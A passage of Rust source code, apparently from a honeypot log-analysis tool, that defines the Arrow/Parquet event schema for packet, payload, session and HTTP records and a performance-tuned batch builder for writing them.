//! The Arrow (and so Parquet) projection of [`Event`]: one row per event, one column per
//! field, documented in `docs/EVENTS.md`.

use std::net::IpAddr;
use std::sync::{Arc, Mutex, OnceLock};

use arrow_array::types::{UInt16Type, UInt32Type, UInt64Type, UInt8Type};
use arrow_array::{
    new_null_array, Array, ArrayRef, ArrowPrimitiveType, PrimitiveArray, RecordBatch, StringArray,
    TimestampMicrosecondArray, UInt16Array, UInt32Array, UInt64Array, UInt8Array,
};
use arrow_buffer::{
    ArrowNativeType, BooleanBuffer, Buffer, NullBuffer, OffsetBuffer, ScalarBuffer,
};
use arrow_schema::{DataType, Field, Schema, SchemaRef, TimeUnit};
use honeyscope_event::honeyd::PacketLine;
use honeyscope_event::{
    Event, HttpEvent, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent,
    SessionEvent, SessionEventId, TcpFlags, Timestamp,
};

/// Column names, in schema order.
pub mod col {
    pub const TS: &str = "ts";
    pub const SENSOR: &str = "sensor";
    pub const KIND: &str = "kind";
    pub const PROTO: &str = "proto";
    pub const PROTO_NAME: &str = "proto_name";
    pub const SRC: &str = "src";
    pub const SPORT: &str = "sport";
    pub const DST: &str = "dst";
    pub const DPORT: &str = "dport";
    pub const ICMP_TYPE: &str = "icmp_type";
    pub const ICMP_CODE: &str = "icmp_code";
    pub const IP_LEN: &str = "ip_len";
    pub const TCP_FLAGS: &str = "tcp_flags";
    pub const RX_BYTES: &str = "rx_bytes";
    pub const TX_BYTES: &str = "tx_bytes";
    pub const OS: &str = "os";
    pub const REMARK: &str = "remark";
    pub const PAYLOAD_SIZE: &str = "payload_size";
    pub const PAYLOAD_SHA256: &str = "payload_sha256";
    pub const PAYLOAD_HEAD: &str = "payload_head";
    pub const EVENTID: &str = "eventid";
    pub const SESSION: &str = "session";
    pub const PROTOCOL: &str = "protocol";
    pub const USERNAME: &str = "username";
    pub const PASSWORD: &str = "password";
    pub const INPUT: &str = "input";
    pub const URL: &str = "url";
    pub const HOST: &str = "host";
    pub const METHOD: &str = "method";
    pub const OUTFILE: &str = "outfile";
    pub const DESTFILE: &str = "destfile";
    pub const FILENAME: &str = "filename";
    pub const SHASUM: &str = "shasum";
    pub const ARCH: &str = "arch";
    pub const CALLBACK: &str = "callback";
    /// JSON's `name` (of `cowrie.client.var`): a name less generic in SQL.
    pub const VAR_NAME: &str = "var_name";
    /// JSON's `value` (of `cowrie.client.var`).
    pub const VAR_VALUE: &str = "var_value";
    pub const TTYLOG: &str = "ttylog";
    pub const MESSAGE: &str = "message";
    pub const PROFILE: &str = "profile";
    pub const PORT: &str = "port";
    pub const SIZE: &str = "size";
    pub const WIDTH: &str = "width";
    pub const HEIGHT: &str = "height";
    /// JSON's `duration` (float seconds), in whole microseconds.
    pub const DURATION_US: &str = "duration_us";
    pub const HTTP_METHOD: &str = "http_method";
    pub const HTTP_TARGET: &str = "http_target";
    pub const HTTP_PATH: &str = "http_path";
    pub const HTTP_QUERY: &str = "http_query";
    pub const HTTP_VERSION: &str = "http_version";
    pub const HTTP_HOST: &str = "http_host";
    pub const HTTP_USER_AGENT: &str = "http_user_agent";
    /// JSON text of the header pairs, `[["Host","…"],…]`, as in JSON lines.
    pub const HTTP_HEADERS: &str = "http_headers";
    pub const HTTP_BODY_SHA256: &str = "http_body_sha256";
    pub const HTTP_BODY_HEAD: &str = "http_body_head";
    pub const HTTP_EXPLOIT: &str = "http_exploit";
    /// JSON text of the command list, `["cd /tmp",…]`.
    pub const HTTP_COMMANDS: &str = "http_commands";
    pub const HTTP_ERROR: &str = "http_error";
    pub const HTTP_BODY_SIZE: &str = "http_body_size";
    pub const HTTP_STATUS: &str = "http_status";
}

/// The packet record's columns (`ts` to `remark`) come first; the payload, session and HTTP
/// columns after them.
pub const PACKET_COLUMNS: usize = 17;

/// Session events' text columns, in schema order (after the payload columns).
const SESSION_TEXT: [&str; 20] = [
    col::EVENTID,
    col::SESSION,
    col::PROTOCOL,
    col::USERNAME,
    col::PASSWORD,
    col::INPUT,
    col::URL,
    col::HOST,
    col::METHOD,
    col::OUTFILE,
    col::DESTFILE,
    col::FILENAME,
    col::SHASUM,
    col::ARCH,
    col::CALLBACK,
    col::VAR_NAME,
    col::VAR_VALUE,
    col::TTYLOG,
    col::MESSAGE,
    col::PROFILE,
];

/// A session event's text fields in [`SESSION_TEXT`] order.
fn session_text(s: &SessionEvent) -> [Option<&str>; 20] {
    [
        Some(s.eventid.as_str()),
        Some(&s.session),
        Some(&s.protocol),
        s.username.as_deref(),
        s.password.as_deref(),
        s.input.as_deref(),
        s.url.as_deref(),
        s.host.as_deref(),
        s.method.as_deref(),
        s.outfile.as_deref(),
        s.destfile.as_deref(),
        s.filename.as_deref(),
        s.shasum.as_deref(),
        s.arch.as_deref(),
        s.callback.as_deref(),
        s.name.as_deref(),
        s.value.as_deref(),
        s.ttylog.as_deref(),
        s.message.as_deref(),
        s.profile.as_deref(),
    ]
}

/// Index of the first session column in the schema.
const SESSION_FIRST: usize = 20;

/// HTTP requests' text columns, in schema order (after the session columns).
const HTTP_TEXT: [&str; 13] = [
    col::HTTP_METHOD,
    col::HTTP_TARGET,
    col::HTTP_PATH,
    col::HTTP_QUERY,
    col::HTTP_VERSION,
    col::HTTP_HOST,
    col::HTTP_USER_AGENT,
    col::HTTP_HEADERS,
    col::HTTP_BODY_SHA256,
    col::HTTP_BODY_HEAD,
    col::HTTP_EXPLOIT,
    col::HTTP_COMMANDS,
    col::HTTP_ERROR,
];

/// Index of the first HTTP column in the schema.
const HTTP_FIRST: usize = SESSION_FIRST + SESSION_TEXT.len() + 5;

/// The session columns an HTTP row fills (its connection, in the shared meaning), in
/// [`SESSION_TEXT`] order; the others stay null.
fn http_session_text(h: &HttpEvent) -> [Option<&str>; 20] {
    let mut t = [None; 20];
    t[0] = Some(HttpEvent::EVENTID);
    t[1] = Some(&*h.session);
    t[2] = Some("http");
    t[19] = h.profile.as_deref();
    t
}

/// An HTTP request's list fields as JSON text (as JSON lines writes them), `None` when empty.
fn json_list<T: serde::Serialize>(items: &[T]) -> Option<String> {
    (!items.is_empty()).then(|| {
        serde_json::to_string(items).unwrap_or_else(|e| unreachable!("strings serialize: {e}"))
    })
}

/// An HTTP request's text fields in [`HTTP_TEXT`] order; `headers` and `commands` are
/// their JSON text.
fn http_text<'a>(
    h: &'a HttpEvent,
    headers: Option<&'a str>,
    commands: Option<&'a str>,
) -> [Option<&'a str>; 13] {
    [
        h.method.as_deref(),
        h.target.as_deref(),
        h.path.as_deref(),
        h.query.as_deref(),
        h.version.as_deref(),
        h.host.as_deref(),
        h.user_agent.as_deref(),
        headers,
        h.body_sha256.as_deref(),
        h.body_head.as_deref(),
        h.exploit.as_deref(),
        commands,
        h.error.as_deref(),
    ]
}

/// The event schema (version 1). `kind` is `probe`, `flow_start` or `flow_end` for packet
/// records, `payload`, `session` and `http` for those events, and `log_started` or `log_stopped`
/// for the log's own lifecycle. Adding a nullable column at the end is a compatible change;
/// anything else needs a new version and a note in `docs/EVENTS.md`.
pub fn event_schema() -> SchemaRef {
    static SCHEMA: OnceLock<SchemaRef> = OnceLock::new();
    SCHEMA
        .get_or_init(|| {
            let f = |name, ty, nullable| Field::new(name, ty, nullable);
            let mut schema = Schema::new(vec![
                f(
                    col::TS,
                    DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into())),
                    false,
                ),
                f(col::SENSOR, DataType::Utf8, true),
                f(col::KIND, DataType::Utf8, false),
                f(col::PROTO, DataType::UInt8, true),
                f(col::PROTO_NAME, DataType::Utf8, true),
                f(col::SRC, DataType::Utf8, true),
                f(col::SPORT, DataType::UInt16, true),
                f(col::DST, DataType::Utf8, true),
                f(col::DPORT, DataType::UInt16, true),
                f(col::ICMP_TYPE, DataType::UInt8, true),
                f(col::ICMP_CODE, DataType::UInt8, true),
                f(col::IP_LEN, DataType::UInt32, true),
                f(col::TCP_FLAGS, DataType::UInt8, true),
                f(col::RX_BYTES, DataType::UInt64, true),
                f(col::TX_BYTES, DataType::UInt64, true),
                f(col::OS, DataType::Utf8, true),
                f(col::REMARK, DataType::Utf8, true),
                // Added for payload records: nullable, at the end, so earlier stores read.
                f(col::PAYLOAD_SIZE, DataType::UInt64, true),
                f(col::PAYLOAD_SHA256, DataType::Utf8, true),
                f(col::PAYLOAD_HEAD, DataType::Utf8, true),
            ]);
            // Added for session events, likewise: their text fields, then their numbers.
            let mut fields = schema.fields().to_vec();
            debug_assert_eq!(fields.len(), SESSION_FIRST);
            for name in SESSION_TEXT {
                fields.push(Arc::new(f(name, DataType::Utf8, true)));
            }
            for (name, ty) in [
                (col::PORT, DataType::UInt16),
                (col::SIZE, DataType::UInt64),
                (col::WIDTH, DataType::UInt32),
                (col::HEIGHT, DataType::UInt32),
                (col::DURATION_US, DataType::UInt64),
            ] {
                fields.push(Arc::new(f(name, ty, true)));
            }
            // Added for HTTP requests, likewise.
            debug_assert_eq!(fields.len(), HTTP_FIRST);
            for name in HTTP_TEXT {
                fields.push(Arc::new(f(name, DataType::Utf8, true)));
            }
            fields.push(Arc::new(f(col::HTTP_BODY_SIZE, DataType::UInt64, true)));
            fields.push(Arc::new(f(col::HTTP_STATUS, DataType::UInt16, true)));
            schema = Schema::new(fields);
            schema
                .metadata
                .insert("honeyscope.schema".into(), "events/1".into());
            Arc::new(schema)
        })
        .clone()
}

/// A primitive column being filled. Appending is a plain push (Arrow's builders check
/// capacity and null bitmaps on every value, which is most of their cost per row); the array
/// is made once, at [`Values::finish`], with validity kept elsewhere.
struct Values<T>(Vec<T>);

impl<T: ArrowNativeType> Values<T> {
    fn with_capacity(rows: usize) -> Self {
        Values(Vec::with_capacity(rows))
    }

    /// Appends `v` (the type's default for a null) and sets `bit` in the row's `mask` when
    /// there is a value.
    #[inline(always)]
    fn put(&mut self, v: Option<T>, bit: u16, mask: &mut u16) {
        self.0.push(v.unwrap_or_default());
        *mask |= bit * u16::from(v.is_some());
    }

    fn finish<P: ArrowPrimitiveType<Native = T>>(
        &mut self,
        nulls: Option<NullBuffer>,
    ) -> PrimitiveArray<P> {
        PrimitiveArray::new(ScalarBuffer::from(std::mem::take(&mut self.0)), nulls)
    }
}

/// A UTF-8 column being filled, like [`Values`]: offsets and bytes. Its bytes stay far below
/// `i32::MAX`: every caller appends one input block (4 MiB of text, or a capture batch of
/// short fields) per batch.
struct Texts {
    offsets: Vec<i32>,
    data: Vec<u8>,
}

impl Texts {
    fn with_capacity(rows: usize, bytes: usize) -> Self {
        let mut offsets = Vec::with_capacity(rows + 1);
        offsets.push(0);
        Texts {
            offsets,
            data: Vec::with_capacity(bytes),
        }
    }

    fn end_value(&mut self) {
        self.offsets
            .push(i32::try_from(self.data.len()).unwrap_or(i32::MAX));
    }

    /// Appends `v` (empty for a null), setting `bit` in `mask` when there is one.
    #[inline(always)]
    fn put(&mut self, v: Option<&str>, bit: u16, mask: &mut u16) {
        if let Some(v) = v {
            self.data.extend_from_slice(v.as_bytes());
            *mask |= bit;
        }
        self.end_value();
    }

    /// Appends `field`, a slice of `block`, like [`Texts::put`]. A field of up to 16 bytes
    /// with 16 bytes of the block from its start is copied as one 16-byte word and cut to
    /// its length: a call to `memcpy` for each short field (five a Honeyd line) was a
    /// twentieth of the ingest's time.
    #[inline(always)]
    fn put_field(&mut self, block: &[u8], field: &str, bit: u16, mask: &mut u16) {
        // Where `field` starts in `block`. The window below exists only if that start lies
        // inside `block`, and then the window's first bytes are `field`'s (same memory).
        let at = (field.as_ptr() as usize).wrapping_sub(block.as_ptr() as usize);
        let window = at
            .checked_add(16)
            .and_then(|end| block.get(at..end))
            .and_then(|w| <&[u8; 16]>::try_from(w).ok());
        match window {
            Some(window) if field.len() <= 16 => self.put_window(window, field.len(), bit, mask),
            _ => self.put(Some(field), bit, mask),
        }
    }

    /// Appends the first `len` (at most 16) bytes of `window`, which must be a whole `str`.
    #[inline(always)]
    fn put_window(&mut self, window: &[u8; 16], len: usize, bit: u16, mask: &mut u16) {
        let at = self.data.len();
        // Extending by a fixed-size array is one 16-byte store; by a slice, a call.
        self.data.extend(*window);
        self.data.truncate(at + len.min(16));
        *mask |= bit;
        self.end_value();
    }

    /// Appends the canonical text of an address (IPv4, the common case, without `fmt`).
    fn put_ip(&mut self, ip: IpAddr, bit: u16, mask: &mut u16) {
        use std::io::Write;
        match ip {
            IpAddr::V4(v4) => honeyscope_event::text::extend_ipv4(&mut self.data, v4),
            // Writing into a Vec cannot fail.
            IpAddr::V6(v6) => {
                let _ = write!(self.data, "{v6}");
            }
        }
        *mask |= bit;
        self.end_value();
    }

    fn finish(&mut self, nulls: Option<NullBuffer>) -> StringArray {
        let offsets = ScalarBuffer::from(std::mem::replace(&mut self.offsets, vec![0]));
        let data = Buffer::from_vec(std::mem::take(&mut self.data));
        if i32::try_from(data.len()).is_ok() {
            // SAFETY: `data` is the concatenation of whole `str`s (`put`) and ASCII
            // (`put_ip`), so it is UTF-8, and `offsets` holds the length after each value:
            // it starts at 0, never decreases, and every offset lies on a boundary between
            // two of those strings. No offset was clamped, as the total fits in an i32.
            // This skips checking again, per row, what holds by construction: the offsets'
            // order (1.5 % of the ingest's instructions) and the UTF-8 of text the Honeyd
            // reader has already checked per block (2 %).
            unsafe { StringArray::new_unchecked(OffsetBuffer::new_unchecked(offsets), data, nulls) }
        } else {
            StringArray::try_new(OffsetBuffer::new(offsets), data, nulls)
                .unwrap_or_else(|e| unreachable!("text column built from whole strs: {e}"))
        }
    }
}

/// A packet kind's name padded to 16 bytes, and its length, for [`Texts::put_window`].
fn kind_window(kind: PacketKind) -> (&'static [u8; 16], usize) {
    const fn pad(name: &str) -> ([u8; 16], usize) {
        let mut w = [0u8; 16];
        let mut i = 0;
        while i < name.len() {
            w[i] = name.as_bytes()[i];
            i += 1;
        }
        (w, name.len())
    }
    const PROBE: ([u8; 16], usize) = pad(PacketKind::Probe.as_str());
    const FLOW_START: ([u8; 16], usize) = pad(PacketKind::FlowStart.as_str());
    const FLOW_END: ([u8; 16], usize) = pad(PacketKind::FlowEnd.as_str());
    let (w, len) = match kind {
        PacketKind::Probe => &PROBE,
        PacketKind::FlowStart => &FLOW_START,
        PacketKind::FlowEnd => &FLOW_END,
    };
    (w, *len)
}

/// The validity of the nullable packet columns: one bit per column in a mask per row. A
/// row's bits are set in a register and stored once (a validity vector per column was a
/// fifth of the cost of appending a Honeyd line).
mod present {
    pub const SENSOR: u16 = 1 << 0;
    pub const PROTO: u16 = 1 << 1;
    pub const PROTO_NAME: u16 = 1 << 2;
    pub const SRC: u16 = 1 << 3;
    pub const SPORT: u16 = 1 << 4;
    pub const DST: u16 = 1 << 5;
    pub const DPORT: u16 = 1 << 6;
    pub const ICMP_TYPE: u16 = 1 << 7;
    pub const ICMP_CODE: u16 = 1 << 8;
    pub const IP_LEN: u16 = 1 << 9;
    pub const TCP_FLAGS: u16 = 1 << 10;
    pub const RX_BYTES: u16 = 1 << 11;
    pub const TX_BYTES: u16 = 1 << 12;
    pub const OS: u16 = 1 << 13;
    pub const REMARK: u16 = 1 << 14;
}

/// The row masks of a batch being built, with the union and intersection of all of them,
/// so that a column no row leaves empty, or every row does, costs nothing per row at the
/// end.
struct RowMasks {
    masks: Vec<u16>,
    any: u16,
    all: u16,
}

impl RowMasks {
    fn with_capacity(rows: usize) -> Self {
        RowMasks {
            masks: Vec::with_capacity(rows),
            any: 0,
            all: u16::MAX,
        }
    }

    #[inline(always)]
    fn push(&mut self, m: u16) {
        self.masks.push(m);
        self.any |= m;
        self.all &= m;
    }

    /// The validity buffer of the column `bit` stands for; none when no row is null.
    fn nulls(&self, bit: u16) -> Option<NullBuffer> {
        let rows = self.masks.len();
        if self.all & bit != 0 || rows == 0 {
            None
        } else if self.any & bit == 0 {
            Some(NullBuffer::new_null(rows))
        } else {
            let words: Vec<u64> = self
                .masks
                .chunks(64)
                .map(|rows| column_bits(rows, bit.trailing_zeros()))
                .collect();
            let valid = BooleanBuffer::new(Buffer::from_vec(words), 0, rows);
            Some(NullBuffer::new(valid))
        }
    }
}

/// Bit `shift` of up to 64 row masks, as the bits of one word (row `j` at bit `j`). Four
/// rows at a time: their masks read as one word, the four bits gathered by one multiply
/// (bit `16 i` lands on bit `45 + i`, and no other product bit reaches 45–48). A bit per row
/// through Arrow's `collect_bool` cost three times the instructions.
fn column_bits(rows: &[u16], shift: u32) -> u64 {
    const LANES: u64 = 0x0001_0001_0001_0001;
    const GATHER: u64 = 1 | 1 << 15 | 1 << 30 | 1 << 45;
    let quads = rows.chunks_exact(4);
    let tail = quads.remainder();
    let mut word = 0u64;
    let mut j = 0;
    for q in quads {
        let x =
            u64::from(q[0]) | u64::from(q[1]) << 16 | u64::from(q[2]) << 32 | u64::from(q[3]) << 48;
        let four = ((x >> shift) & LANES).wrapping_mul(GATHER) >> 45 & 0xf;
        word |= four << j;
        j += 4;
    }
    for m in tail {
        word |= u64::from((m >> shift) & 1) << j;
        j += 1;
    }
    word
}

/// The validity of a column that keeps its own (the later, rarely filled columns).
#[derive(Default)]
struct Validity {
    valid: Vec<bool>,
    nulls: usize,
}

impl Validity {
    fn with_capacity(rows: usize) -> Self {
        Validity {
            valid: Vec::with_capacity(rows),
            nulls: 0,
        }
    }

    fn push(&mut self, present: bool) {
        self.valid.push(present);
        self.nulls += usize::from(!present);
    }

    /// The validity buffer of the rows so far (none when no row is null); empty afterwards.
    fn finish(&mut self) -> Option<NullBuffer> {
        let Validity { valid, nulls } = std::mem::take(self);
        (nulls > 0).then(|| NullBuffer::from(valid))
    }
}

/// A nullable primitive column with its own validity.
struct PrimCol<T> {
    values: Values<T>,
    valid: Validity,
}

impl<T: ArrowNativeType> PrimCol<T> {
    fn with_capacity(rows: usize) -> Self {
        PrimCol {
            values: Values::with_capacity(rows),
            valid: Validity::with_capacity(rows),
        }
    }

    fn push(&mut self, v: Option<T>) {
        self.values.put(v, 0, &mut 0);
        self.valid.push(v.is_some());
    }

    fn finish<P: ArrowPrimitiveType<Native = T>>(&mut self) -> PrimitiveArray<P> {
        let nulls = self.valid.finish();
        self.values.finish(nulls)
    }
}

/// A nullable UTF-8 column with its own validity, like [`PrimCol`].
struct StrCol {
    texts: Texts,
    valid: Validity,
}

impl StrCol {
    fn with_capacity(rows: usize, bytes: usize) -> Self {
        StrCol {
            texts: Texts::with_capacity(rows, bytes),
            valid: Validity::with_capacity(rows),
        }
    }

    fn push(&mut self, v: Option<&str>) {
        self.texts.put(v, 0, &mut 0);
        self.valid.push(v.is_some());
    }

    fn finish(&mut self) -> StringArray {
        let nulls = self.valid.finish();
        self.texts.finish(nulls)
    }
}

/// Builds a [`RecordBatch`] of events, row by row.
pub struct EventBatchBuilder {
    ts: Vec<i64>,
    /// Per row, which of the nullable packet columns have a value ([`present`]).
    present: RowMasks,
    sensor: Texts,
    kind: Texts,
    proto: Values<u8>,
    proto_name: Texts,
    src: Texts,
    sport: Values<u16>,
    dst: Texts,
    dport: Values<u16>,
    icmp_type: Values<u8>,
    icmp_code: Values<u8>,
    ip_len: Values<u32>,
    tcp_flags: Values<u8>,
    rx_bytes: Values<u64>,
    tx_bytes: Values<u64>,
    os: Texts,
    remark: Texts,
    /// Made on the first payload record, with nulls for the rows before it: batches
    /// without one (nearly all) pay nothing per row for these columns.
    payload: Option<PayloadCols>,
    /// Made on the first session event or HTTP request (which shares `eventid`,
    /// `session`, `protocol` and `profile`), likewise.
    session: Option<SessionCols>,
    /// Made on the first HTTP request, likewise.
    http: Option<HttpCols>,
}

/// The HTTP request's own columns.
struct HttpCols {
    /// In [`HTTP_TEXT`] order.
    text: [StrCol; 13],
    body_size: PrimCol<u64>,
    status: PrimCol<u16>,
}

impl HttpCols {
    fn new(rows_before: usize) -> Self {
        let rows = rows_before + 16;
        let mut c = HttpCols {
            text: std::array::from_fn(|_| StrCol::with_capacity(rows, 16 * 16)),
            body_size: PrimCol::with_capacity(rows),
            status: PrimCol::with_capacity(rows),
        };
        for _ in 0..rows_before {
            c.push_none();
        }
        c
    }

    fn push(&mut self, h: &HttpEvent) {
        let headers = json_list(&h.headers);
        let commands = json_list(&h.commands);
        for (col, v) in
            self.text
                .iter_mut()
                .zip(http_text(h, headers.as_deref(), commands.as_deref()))
        {
            col.push(v);
        }
        self.body_size.push(Some(h.body_size));
        self.status.push(Some(h.status));
    }

    fn push_none(&mut self) {
        for col in &mut self.text {
            col.push(None);
        }
        self.body_size.push(None);
        self.status.push(None);
    }
}

/// The session event's own columns.
struct SessionCols {
    /// In [`SESSION_TEXT`] order.
    text: [StrCol; 20],
    port: PrimCol<u16>,
    size: PrimCol<u64>,
    width: PrimCol<u32>,
    height: PrimCol<u32>,
    duration_us: PrimCol<u64>,
}

impl SessionCols {
    fn new(rows_before: usize) -> Self {
        let rows = rows_before + 16;
        let mut c = SessionCols {
            text: std::array::from_fn(|_| StrCol::with_capacity(rows, 16 * 16)),
            port: PrimCol::with_capacity(rows),
            size: PrimCol::with_capacity(rows),
            width: PrimCol::with_capacity(rows),
            height: PrimCol::with_capacity(rows),
            duration_us: PrimCol::with_capacity(rows),
        };
        for _ in 0..rows_before {
            c.push_none();
        }
        c
    }

    fn push(&mut self, s: &SessionEvent) {
        for (col, v) in self.text.iter_mut().zip(session_text(s)) {
            col.push(v);
        }
        self.port.push(s.port);
        self.size.push(s.size);
        self.width.push(s.width);
        self.height.push(s.height);
        self.duration_us.push(s.duration_us);
    }

    /// An HTTP request's row: its connection's columns only.
    fn push_http(&mut self, h: &HttpEvent) {
        for (col, v) in self.text.iter_mut().zip(http_session_text(h)) {
            col.push(v);
        }
        self.port.push(None);
        self.size.push(None);
        self.width.push(None);
        self.height.push(None);
        self.duration_us.push(None);
    }

    fn push_none(&mut self) {
        for col in &mut self.text {
            col.push(None);
        }
        self.port.push(None);
        self.size.push(None);
        self.width.push(None);
        self.height.push(None);
        self.duration_us.push(None);
    }
}

/// The payload record's own columns.
struct PayloadCols {
    size: PrimCol<u64>,
    sha256: StrCol,
    head: StrCol,
}

impl PayloadCols {
    fn new(rows_before: usize) -> Self {
        let mut c = PayloadCols {
            size: PrimCol::with_capacity(rows_before + 16),
            sha256: StrCol::with_capacity(rows_before + 16, 64 * 16),
            head: StrCol::with_capacity(rows_before + 16, 64 * 16),
        };
        for _ in 0..rows_before {
            c.push_none();
        }
        c
    }

    fn push_none(&mut self) {
        self.size.push(None);
        self.sha256.push(None);
        self.head.push(None);
    }
}

impl Default for EventBatchBuilder {
    fn default() -> Self {
        Self::with_capacity(1024)
    }
}

impl EventBatchBuilder {
    /// A builder with room for `rows` events before it reallocates.
    pub fn with_capacity(rows: usize) -> Self {
        let s = |bytes| Texts::with_capacity(rows, rows * bytes);
        EventBatchBuilder {
            ts: Vec::with_capacity(rows),
            present: RowMasks::with_capacity(rows),
            sensor: s(0),
            kind: s(5),
            proto: Values::with_capacity(rows),
            proto_name: s(3),
            src: s(14),
            sport: Values::with_capacity(rows),
            dst: s(14),
            dport: Values::with_capacity(rows),
            icmp_type: Values::with_capacity(rows),
            icmp_code: Values::with_capacity(rows),
            ip_len: Values::with_capacity(rows),
            tcp_flags: Values::with_capacity(rows),
            rx_bytes: Values::with_capacity(rows),
            tx_bytes: Values::with_capacity(rows),
            os: s(4),
            remark: s(0),
            payload: None,
            session: None,
            http: None,
        }
    }

    /// Rows appended so far.
    pub fn len(&self) -> usize {
        self.ts.len()
    }

    /// Whether no row was appended.
    pub fn is_empty(&self) -> bool {
        self.ts.is_empty()
    }

    /// The packet columns of a connection's record (a payload, a session or HTTP event):
    /// its kind, protocol and addresses; no packet-level fields. A service's records carry
    /// no protocol: it is the transport's, not the event's.
    fn push_connection_row(
        &mut self,
        m: &mut u16,
        kind: &'static str,
        proto: Option<u8>,
        (src, sport): (std::net::IpAddr, u16),
        (dst, dport): (std::net::IpAddr, u16),
    ) {
        use present::*;
        self.kind.put(Some(kind), 0, m);
        self.proto.put(proto, PROTO, m);
        self.proto_name
            .put(proto.map(honeyscope_event::proto::name), PROTO_NAME, m);
        self.src.put_ip(src, SRC, m);
        self.sport.put(Some(sport), SPORT, m);
        self.dst.put_ip(dst, DST, m);
        self.dport.put(Some(dport), DPORT, m);
        self.push_no_packet_fields();
    }

    /// Nulls in the packet-level columns after the addresses (their bits stay clear).
    fn push_no_packet_fields(&mut self) {
        let m = &mut 0;
        self.icmp_type.put(None, 0, m);
        self.icmp_code.put(None, 0, m);
        self.ip_len.put(None, 0, m);
        self.tcp_flags.put(None, 0, m);
        self.rx_bytes.put(None, 0, m);
        self.tx_bytes.put(None, 0, m);
        self.os.put(None, 0, m);
        self.remark.put(None, 0, m);
    }

    /// Appends one event.
    pub fn append(&mut self, ev: &Event) {
        let rows_before = self.ts.len();
        let mut m = 0u16;
        self.ts.push(ev.time().as_micros());
        self.sensor
            .put(ev.sensor().map(|s| &**s), present::SENSOR, &mut m);
        match ev {
            Event::Payload(d) => {
                self.push_connection_row(
                    &mut m,
                    "payload",
                    Some(d.proto),
                    (d.src, d.sport),
                    (d.dst, d.dport),
                );
                let c = self
                    .payload
                    .get_or_insert_with(|| PayloadCols::new(rows_before));
                c.size.push(Some(d.size));
                c.sha256.push(Some(&d.sha256));
                c.head.push(Some(&d.head));
            }
            Event::Session(s) => {
                self.push_connection_row(
                    &mut m,
                    "session",
                    None,
                    (s.src, s.sport),
                    (s.dst, s.dport),
                );
                self.session
                    .get_or_insert_with(|| SessionCols::new(rows_before))
                    .push(s);
            }
            Event::Http(h) => {
                self.push_connection_row(&mut m, "http", None, (h.src, h.sport), (h.dst, h.dport));
                self.session
                    .get_or_insert_with(|| SessionCols::new(rows_before))
                    .push_http(h);
                self.http
                    .get_or_insert_with(|| HttpCols::new(rows_before))
                    .push(h);
            }
            Event::Packet(p) => self.append_packet(p, &mut m),
            Event::Lifecycle(l) => {
                self.kind.put(Some(l.state.as_str()), 0, &mut m);
                self.proto.put(None, 0, &mut m);
                self.proto_name.put(None, 0, &mut m);
                self.src.put(None, 0, &mut m);
                self.sport.put(None, 0, &mut m);
                self.dst.put(None, 0, &mut m);
                self.dport.put(None, 0, &mut m);
                self.push_no_packet_fields();
            }
        }
        self.present.push(m);
        if !matches!(ev, Event::Payload(_)) {
            if let Some(c) = &mut self.payload {
                c.push_none();
            }
        }
        if !matches!(ev, Event::Session(_) | Event::Http(_)) {
            if let Some(c) = &mut self.session {
                c.push_none();
            }
        }
        if !matches!(ev, Event::Http(_)) {
            if let Some(c) = &mut self.http {
                c.push_none();
            }
        }
    }

    /// Appends a Honeyd packet line without making an event of it first (the bulk path:
    /// no allocation, and IPv4 addresses keep the text they were parsed from). `block` is
    /// the text the line borrows from (any text will do, but short fields are copied
    /// fastest from inside it).
    pub fn append_line(&mut self, p: &PacketLine<'_>, sensor: Option<&str>, block: &[u8]) {
        use present::*;
        let mut m = 0;
        self.ts.push(p.time.as_micros());
        self.sensor.put(sensor, SENSOR, &mut m);
        let (kind, len) = kind_window(p.kind);
        self.kind.put_window(kind, len, 0, &mut m);
        self.proto.put(Some(p.proto), PROTO, &mut m);
        self.proto_name
            .put_field(block, p.proto_name, PROTO_NAME, &mut m);
        // By reference: copying the (address, text) pairs out stalled on their stores.
        for ((ip, text), b, bit) in [(&p.src, &mut self.src, SRC), (&p.dst, &mut self.dst, DST)] {
            if ip.is_ipv4() {
                b.put_field(block, text, bit, &mut m);
            } else {
                b.put_ip(*ip, bit, &mut m);
            }
        }
        self.sport.put(p.sport, SPORT, &mut m);
        self.dport.put(p.dport, DPORT, &mut m);
        self.icmp_type.put(p.icmp.map(|i| i.0), ICMP_TYPE, &mut m);
        self.icmp_code.put(p.icmp.map(|i| i.1), ICMP_CODE, &mut m);
        self.ip_len.put(p.ip_len, IP_LEN, &mut m);
        self.tcp_flags
            .put(p.tcp_flags.map(|f| f.0), TCP_FLAGS, &mut m);
        self.rx_bytes.put(p.bytes.map(|b| b.0), RX_BYTES, &mut m);
        self.tx_bytes.put(p.bytes.map(|b| b.1), TX_BYTES, &mut m);
        match p.os {
            Some(os) => self.os.put_field(block, os, OS, &mut m),
            None => self.os.put(None, OS, &mut m),
        }
        self.remark.put(p.remark, REMARK, &mut m);
        self.present.push(m);
        if let Some(c) = &mut self.payload {
            c.push_none();
        }
        if let Some(c) = &mut self.session {
            c.push_none();
        }
        if let Some(c) = &mut self.http {
            c.push_none();
        }
    }

    fn append_packet(&mut self, p: &PacketEvent, m: &mut u16) {
        use present::*;
        self.kind.put(Some(p.kind.as_str()), 0, m);
        self.proto.put(Some(p.proto), PROTO, m);
        self.proto_name.put(Some(p.proto_name()), PROTO_NAME, m);
        self.src.put_ip(p.src, SRC, m);
        self.sport.put(p.sport, SPORT, m);
        self.dst.put_ip(p.dst, DST, m);
        self.dport.put(p.dport, DPORT, m);
        self.icmp_type.put(p.icmp_type, ICMP_TYPE, m);
        self.icmp_code.put(p.icmp_code, ICMP_CODE, m);
        self.ip_len.put(p.ip_len, IP_LEN, m);
        self.tcp_flags.put(p.tcp_flags.map(|f| f.0), TCP_FLAGS, m);
        self.rx_bytes.put(p.rx_bytes, RX_BYTES, m);
        self.tx_bytes.put(p.tx_bytes, TX_BYTES, m);
        self.os.put(p.os.as_deref(), OS, m);
        self.remark.put(p.remark.as_deref(), REMARK, m);
    }

    /// The batch of everything appended; the builder is empty afterwards.
    pub fn finish(&mut self) -> RecordBatch {
        let ts =
            TimestampMicrosecondArray::new(ScalarBuffer::from(std::mem::take(&mut self.ts)), None)
                .with_timezone("UTC");
        let masks = std::mem::replace(&mut self.present, RowMasks::with_capacity(0));
        let n = |bit| masks.nulls(bit);
        use present::*;
        let columns: Vec<ArrayRef> = vec![
            Arc::new(ts),
            Arc::new(self.sensor.finish(n(SENSOR))),
            Arc::new(self.kind.finish(None)),
